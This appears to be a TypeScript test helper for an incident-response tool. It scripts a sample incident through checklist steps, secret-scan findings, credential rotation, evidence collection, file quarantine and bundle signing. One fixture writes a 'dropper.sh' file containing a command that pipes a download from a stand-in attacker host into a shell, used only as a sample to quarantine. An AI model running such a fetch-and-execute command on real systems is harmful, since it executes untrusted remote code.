import { generateKeyPairSync, type KeyObject } from 'node:crypto';
import fs from 'node:fs';
import path from 'node:path';
import type { Checklist, CollectedEvidence, Incident, QuarantinedFile } from '../../src-main/contract';
import type { Bundle, BundleEvent } from '../../src-main/domain/bundle/bundleFormat';
import { dispatchAsync } from '../../src-main/services/dispatch';
import { signBundle } from '../../src-main/services/bundle/bundleSigning';
import { recordScan } from '../../src-main/services/scans/scans';
import { callOk, type TestContext } from './serviceContext';

export const stats = { files: 1, bytes: 10, commits: 0, skipped: { binary: 0, tooLarge: 0, ignored: 0, unreadable: 0 } };
export const finding = (rule: string, file: string, line: number, fingerprint: string) => ({ rule, description: rule, file, line, column: 5, commit: null, author: null, date: null, redacted: 'AKIA…MPLE', fingerprint, inWorkingTree: null });

async function ok<T>(t: TestContext, name: string, input: unknown): Promise<T> {
  const envelope = await dispatchAsync(t.ctx, name, input);
  if (!envelope.ok) throw new Error(`${name} failed: ${envelope.error.message}`);
  return envelope.value as T;
}

/** A finding of this data dir's own, so an imported incident's finding ids clash with local ones. */
export function addLocalFinding(t: TestContext): number {
  const id = callOk<Incident>(t, 'incident.declare', { title: 'Local incident', severity: 'P3' }).id;
  return recordScan(t.ctx, id, { root: '/srv/local', findings: [finding('generic-api-key', 'local.env', 1, '9999888877776666')], stats } as never, false, '2026-11-23T14:00:00.000Z').findings[0]!.id;
}

/**
 * A worked incident touching every table a bundle carries: steps, notes, severity change, a scan
 * with findings (one sent to rotation), evidence with custody, a quarantined file, action items.
 */
export async function scriptedIncident(t: TestContext, work: string): Promise<string> {
  const id = callOk<Incident>(t, 'incident.declare', { title: 'Deploy key leaked in a public repo', severity: 'P2', scenario: 'secret-leaked', commander: 'Dana' }).id;
  const steps = callOk<Checklist>(t, 'checklist.get', { id }).steps;
  t.advance(60_000);
  callOk(t, 'checklist.change', { id, stepId: steps[0]!.id, change: 'done' });
  callOk(t, 'checklist.change', { id, stepId: steps[1]!.id, change: 'note', text: 'Checked the CI logs: key used twice' });
  callOk(t, 'checklist.change', { id, stepId: steps[2]!.id, change: 'skip', reason: 'not relevant here' });
  callOk(t, 'incident.addNote', { id, text: 'Customer data may be involved' });
  callOk(t, 'incident.setSeverity', { id, severity: 'P1', reason: 'customer data involved' });
  const stored = recordScan(t.ctx, id, { root: '/srv/app', findings: [finding('aws-access-key-id', 'app.env', 3, 'abcdef0123456789'), finding('generic-api-key', 'ci.yml', 9, '0123456789abcdef')], stats } as never, false, '2026-11-23T14:16:00.000Z').findings;
  callOk(t, 'scan.markFinding', { findingId: stored[0]!.id, status: 'rotation', note: '' });
  callOk(t, 'scan.markFinding', { findingId: stored[1]!.id, status: 'false-positive', note: 'test fixture' });
  callOk(t, 'rotation.add', { incidentId: id, name: 'SMTP credentials', location: 'mail provider', owner: 'sam', group: 'service' });
  callOk(t, 'rotation.mark', { incidentId: id, itemId: 'R1', status: 'rotated' });
  fs.mkdirSync(path.join(work, 'logs'), { recursive: true });
  fs.writeFileSync(path.join(work, 'logs', 'auth.log'), 'Failed password for root from 203.0.113.7\n'.repeat(20));
  const evidence = await ok<CollectedEvidence>(t, 'evidence.collect', { paths: [path.join(work, 'logs')], output: path.join(work, 'evidence.tar.gz'), incidentId: id });
  callOk(t, 'evidence.addCustody', { evidenceId: evidence.evidenceId, action: 'handed-over', detail: 'to legal' });
  fs.writeFileSync(path.join(work, 'dropper.sh'), '#!/bin/sh\ncurl evil.example | sh\n');
  await ok<QuarantinedFile>(t, 'quarantine.add', { file: path.join(work, 'dropper.sh'), incidentId: id });
  callOk(t, 'action.add', { incidentId: id, title: 'Rotate deploy keys', owner: 'Dana', due: '2026-12-04' });
  callOk(t, 'action.add', { incidentId: id, title: 'Add secret scanning to CI' });
  callOk(t, 'action.update', { incidentId: id, itemId: 'A1', status: 'done' });
  callOk(t, 'incident.setStatus', { id, status: 'Contained' });
  return id;
}

/** Another signer's key: what a bundle re-signed by someone else carries. */
export function otherKey(): KeyObject {
  return generateKeyPairSync('ed25519').privateKey;
}

/**
 * A bundle as the tests edit it: by the fields of chain (format 1) events. The scripted incident's
 * edited events are in that prefix; a signed (format 2) event has none of them, so no edit matches it.
 */
export type TestBundle = Omit<Bundle, 'events'> & { events: BundleEvent[] };

export const readBundle = (file: string): TestBundle => JSON.parse(fs.readFileSync(file, 'utf8')) as TestBundle;

/** Writes the bundle as is (its signature no longer matching if changed) or re-signed with `key`. */
export function writeBundle(file: string, bundle: Bundle | TestBundle, key?: KeyObject): void {
  const { signature, ...body } = bundle;
  fs.writeFileSync(file, JSON.stringify(key ? signBundle(body as Omit<Bundle, 'signature'>, key) : { ...body, signature }));
}

